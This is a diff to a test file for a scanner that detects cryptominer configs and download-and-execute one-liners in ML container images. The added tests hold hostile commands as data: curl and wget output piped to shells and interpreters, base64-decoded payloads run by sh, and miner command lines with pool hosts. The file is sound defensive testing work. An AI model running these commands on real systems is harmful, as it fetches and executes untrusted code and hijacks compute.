@@ -20,6 +20,8 @@ describe('indicatorsInText', () => {
     ['eth-eu2.nanopool.org:9999', ['pool-host', 'pool-port']],
     ['gulf.moneroocean.stream:10128', ['pool-host']],
     ['ethminer -P stratum1+tcp://w@eu1.ethermine.org:4444', ['stratum-url', 'miner-binary', 'pool-host', 'pool-port']],
+    ['./fast -B -o 198.51.100.4:443 -u 4Wallet --cpu-max-threads-hint=80', ['miner-flag']],
+    ['--coin=monero --rig-id worker1', ['miner-flag']],
   ])('%s', (text, expected) => {
     expect(kinds(text)).toEqual(expected);
   });
@@ -33,6 +35,7 @@ describe('indicatorsInText', () => {
     'MINER_ENABLED=false',
     'https://antpool.com.example.org/docs',
     'xmrig-exporter --port 9189',
+    'python train.py --coin-flip-prob 0.5 --threads-hint 4',
     'curl -fsSL https://get.helm.sh/install.sh | sh',
   ])('no indicator in %j outside ML images', (text) => {
     expect(kinds(text)).toEqual([]);
@@ -44,8 +47,60 @@ describe('indicatorsInText', () => {
     expect(kinds(pipe, false)).toEqual([]);
     expect(kinds('wget -q http://x/y -O /tmp/y && chmod 755 /tmp/y && /tmp/y', true)).toEqual(['download-execute']);
     expect(kinds('wget -q http://x/w.h5 && chmod 644 w.h5', true)).toEqual([]);
-    expect(kinds("urllib.request.urlretrieve(u, '/tmp/t'); os.chmod('/tmp/t', 0o755)", true)).toEqual(['download-execute']);
+    expect(kinds("urllib.request.urlretrieve(u, '/tmp/t'); os.chmod('/tmp/t', 0o755); os.system('/tmp/t')", true)).toEqual(['download-execute']);
     expect(kinds('chmod +x ./train.sh && ./train.sh', true)).toEqual([]);
+  });
+
+  it.each([
+    ['curl -fsSL http://203.0.113.9/p.py | python3 -', 'curl output piped to python3'],
+    ['wget -qO- http://203.0.113.9/x | python', 'wget output piped to python'],
+    ['curl -s http://203.0.113.9/x.pl | perl', 'curl output piped to perl'],
+    ['curl -s http://203.0.113.9/x.js | node', 'curl output piped to node'],
+    ['curl -s http://203.0.113.9/x.rb | ruby', 'curl output piped to ruby'],
+    ['wget -qO- http://203.0.113.9/i.sh | sh', 'wget output piped to a shell'],
+    ['curl -s http://203.0.113.9/i.sh | sudo -E /bin/bash -s -- --quiet', 'curl output piped to a shell'],
+    ['bash <(curl -s http://203.0.113.9/i.sh)', 'curl output run by bash through process substitution'],
+    ['source <(wget -qO- http://203.0.113.9/env)', 'wget output run by source through process substitution'],
+    ['python -c "$(curl -fsSL http://203.0.113.9/p.py)"', 'curl output run by python -c through command substitution'],
+    ["bash -c \"$(wget -qO- http://203.0.113.9/i.sh)\"", 'wget output run by bash -c through command substitution'],
+    ['eval "$(curl -s http://203.0.113.9/x)"', 'curl output run by eval through command substitution'],
+    ['echo Y3VybCBodHRwOi8vZXZpbC9zaCB8IHNo | base64 -d | sh', 'base64-decoded text piped to a shell'],
+    ['echo aW1wb3J0IG9z | base64 --decode | python3', 'base64-decoded text piped to python3'],
+  ])('finds %j inside ML images, whatever runs the download', (text, what) => {
+    expect(indicatorsInText(text, { mlImage: true })).toEqual([{ kind: 'download-execute', description: `a download-and-execute one-liner (${what})` }]);
+    expect(kinds(text, false)).toEqual([]);
+  });
+
+  it.each([
+    // KubeRay's sandbox sample installs gVisor's runsc for later use: downloaded and made executable, never run here.
+    'sudo wget -O /usr/local/bin/runsc "https://storage.googleapis.com/gvisor/releases/release/latest/x86_64/runsc"\nsudo chmod +x /usr/local/bin/runsc',
+    "urllib.request.urlretrieve(u, '/opt/tools/helper'); os.chmod('/opt/tools/helper', 0o755)",
+    'curl -sSL https://example.com/data.csv -o data.csv && python train.py',
+    'curl -s https://example.com/health | grep ok',
+    'pip download pandas | tee log.txt',
+    'base64 -d secret.b64 > key.pem',
+  ])('no one-liner in %j', (text) => {
+    expect(kinds(text, true)).toEqual([]);
+  });
+
+  it('reads miner config files: donate-level as a key, pool hosts in a miner-shaped file', () => {
+    const xmrig = '{"autosave": true, "donate-level": 1, "cpu": true, "pools": [{"url": "pool.supportxmr.com:443", "user": "4Wallet", "tls": true}]}';
+    expect(indicatorsInText(xmrig, { mlImage: false, configFile: true }).map((i) => i.description)).toEqual([
+      "XMRig's donate-level setting",
+      'the mining pool pool.supportxmr.com',
+    ]);
+    expect(kinds('[pool]\nurl = stratum+tcp://xmr.2miners.com:2222\n', false)).toEqual(['stratum-url', 'pool-host']);
+    // A proxy's deny list or docs that merely name pools are not a miner's config.
+    expect(indicatorsInText('blocked:\n  - pool.supportxmr.com\n  - xmr-eu1.nanopool.org\n', { mlImage: false, configFile: true })).toEqual([]);
+    // Falco rules name Stratum URLs and pools to catch miners.
+    const falcoRules = '- list: miner_domains\n  items: [pool.supportxmr.com]\n- rule: Detect crypto miners using the Stratum protocol\n  condition: proc.cmdline contains "stratum+tcp"\n';
+    expect(indicatorsInText(falcoRules, { mlImage: false, configFile: true })).toEqual([]);
+  });
+
+  it('names what it found in a Secret without quoting the value', () => {
+    const found = indicatorsInText('{"donate-level": 0, "pools": [{"url": "stratum+ssl://gulf.moneroocean.stream:20128"}]}', { mlImage: false, configFile: true, redact: true });
+    expect(found.map((i) => i.description)).toEqual(['a Stratum mining URL', "XMRig's donate-level setting", 'a known mining pool host']);
+    expect(JSON.stringify(found)).not.toMatch(/moneroocean|20128/);
   });
 
   it('matches pool hosts by operator domain, not by substring', () => {
